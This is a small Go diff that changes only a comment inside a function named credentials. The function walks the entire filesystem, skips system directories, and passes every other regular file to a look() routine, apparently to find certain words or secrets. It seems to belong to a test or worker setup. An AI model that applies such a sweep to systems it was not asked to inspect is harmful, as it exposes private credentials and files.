@@ -231,7 +231,7 @@ func credentials() (said []string) {
 		switch {
 		case path == "/proc" || path == "/sys" || path == "/dev" || path == "/usr/local/go":
 			return fs.SkipDir
-		case err == nil && d.Type().IsRegular() && path != "/retake/worker" && path != self: // which know the words
+		case err == nil && d.Type().IsRegular() && path != "/retake/worker" && path != self: // both contain the words
 			look(path)
 		}
 		return nil
